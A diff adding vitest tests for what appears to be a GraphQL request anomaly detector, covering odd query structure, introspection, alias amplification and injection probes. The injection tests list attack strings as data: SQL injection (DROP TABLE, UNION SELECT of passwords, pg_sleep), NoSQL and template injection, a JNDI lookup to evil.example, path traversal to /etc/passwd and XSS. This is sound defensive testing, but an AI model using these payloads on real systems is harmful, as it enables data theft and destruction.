@@ -1,0 +1,130 @@
+import { describe, expect, it } from 'vitest';
+import { DAY, HOUR, MINUTE } from '../../../../core/domain/time.ts';
+import type { Scenario } from './pattern-scenario.ts';
+import { createScenario, MONDAY, teachSupportDesk, THIRD_MONDAY } from './pattern-scenario.ts';
+
+function taught(): Scenario {
+  const scenario = createScenario();
+  teachSupportDesk(scenario);
+  return scenario;
+}
+
+describe('unusual structure', () => {
+  it.each([
+    ['depth', 8, '8 levels deep; usual is 2, at most 2'],
+    ['arguments', 25, '25 arguments; usual is 1, at most 1'],
+    ['fields', 60, '60 different fields; usual is 2, at most 2'],
+    ['queryLength', 9_000, '9,000 characters long; usual is 80, at most 80'],
+    ['rootFields', 40, '40 root fields; usual is 1, at most 1'],
+  ])('reports an unusual %s', (feature, value, text) => {
+    const [finding] = taught().send({ at: THIRD_MONDAY, features: { [feature]: value } });
+    expect(finding?.kind).toBe('unusual_structure');
+    expect(finding?.reason).toBe(`the query of role support is ${text}`);
+  });
+
+  it('leaves a somewhat larger query alone', () => {
+    const features = { depth: 4, fields: 8, arguments: 4, queryLength: 300, rootFields: 3 };
+    expect(taught().kinds({ at: THIRD_MONDAY, features })).toEqual([]);
+  });
+
+  it('goes by what the role is used to', () => {
+    const scenario = createScenario();
+    for (let i = 0; i < 200; i++) scenario.send({ at: MONDAY + i * HOUR, features: { depth: 2 + (i % 8) } });
+    expect(scenario.kinds({ at: MONDAY + 201 * HOUR, features: { depth: 10 } })).toEqual([]);
+  });
+});
+
+describe('introspection', () => {
+  const schema = {
+    shape: 'schema',
+    fields: ['__schema'],
+    features: { introspection: true, depth: 9, queryLength: 2_000 },
+  };
+
+  it('reports a caller who never asked, in a role that never does, and no new shape beside it', () => {
+    const found = taught().send({ at: THIRD_MONDAY, ...schema });
+    expect(found.map(({ kind }) => kind)).toEqual(['introspection']);
+    expect(found[0]?.firstSeen).toEqual({ kind: 'introspection', scope: 'graphql:support', value: '17' });
+    expect(found[0]?.reason).toBe(
+      'user 17 asked for the schema for the first time; role support did in 0 of 1,080 requests',
+    );
+  });
+
+  it('leaves an administrator alone who did before, and a colleague in a role that does', () => {
+    const scenario = createScenario();
+    for (let i = 0; i < 100; i++) {
+      const request = i % 10 === 0 ? schema : {};
+      expect(scenario.kinds({ at: MONDAY + i * HOUR, role: 'admin', user: '1', ...request })).toEqual([]);
+    }
+    expect(scenario.kinds({ at: MONDAY + 101 * HOUR, role: 'admin', user: '1', ...schema })).toEqual([]);
+    expect(scenario.kinds({ at: MONDAY + 102 * HOUR, role: 'admin', user: '2', ...schema })).toEqual([]);
+  });
+});
+
+describe('injection probe', () => {
+  const probe = (value: string): string[] =>
+    taught().kinds({ at: THIRD_MONDAY, arguments: [{ path: 'customers.where.lastName._like', value }] });
+
+  it.each([
+    "x' OR '1'='1",
+    "' or 1=1 --",
+    '1 UNION SELECT username, password FROM users',
+    "'; DROP TABLE customers; --",
+    '1; SELECT pg_sleep(10)',
+    '{"$ne": null}',
+    '{{7*7}}',
+    '${jndi:ldap://evil.example/a}',
+    '../../../../etc/passwd',
+    '%2e%2e%2f%2e%2e%2fsecret',
+    '<script>alert(1)</script>',
+  ])('reports %s', (value) => {
+    expect(probe(value)).toEqual(['injection_probe']);
+  });
+
+  it.each([
+    "O'Brien",
+    'Drop Table Tennis',
+    'select the union of students or 1=1?',
+    'rock & roll -- live',
+    "it's 5 o'clock or later",
+    '{"name": "x", "price": {"gt": 5}}',
+    'Hello {{name}}',
+    '../images/cover.png',
+    'https://music.example/a?b=1=1',
+    "Guns N' Roses -- the best",
+    'C:\\music\\new',
+    '',
+  ])('leaves %s alone', (value) => {
+    expect(probe(value)).toEqual([]);
+  });
+
+  it('reads a megabyte of anything quickly', () => {
+    const start = performance.now();
+    for (const text of ["'", '..', '{{', ' or ', 'union select ', "' or "]) probe(text.repeat(300_000));
+    expect(performance.now() - start).toBeLessThan(5_000);
+  });
+});
+
+describe('alias amplification', () => {
+  it('reports one field under many aliases', () => {
+    const [finding] = taught().send({ at: THIRD_MONDAY, features: { aliases: 100, fields: 3 } });
+    expect(finding?.kind).toBe('alias_amplification');
+    expect(finding?.reason).toContain('3 different fields under 100 aliases; this role used at most 0');
+  });
+
+  it.each([
+    ['a few aliases', { aliases: 6, fields: 2 }],
+    ['many fields, each renamed', { aliases: 30, fields: 30 }],
+  ])('leaves %s alone', (_, features) => {
+    const scenario = createScenario();
+    for (let i = 0; i < 100; i++) scenario.send({ at: MONDAY + i * HOUR, features: { fields: 20 + (i % 15) } });
+    expect(scenario.kinds({ at: MONDAY + 4 * DAY + 9 * HOUR, features })).toEqual([]);
+  });
+
+  it('leaves a dashboard alone that always does it', () => {
+    const scenario = createScenario();
+    const features = { aliases: 60, fields: 5 };
+    const kinds = Array.from({ length: 200 }, (_, i) => scenario.kinds({ at: MONDAY + i * 30 * MINUTE, features }));
+    expect(kinds.flat()).toEqual([]);
+  });
+});
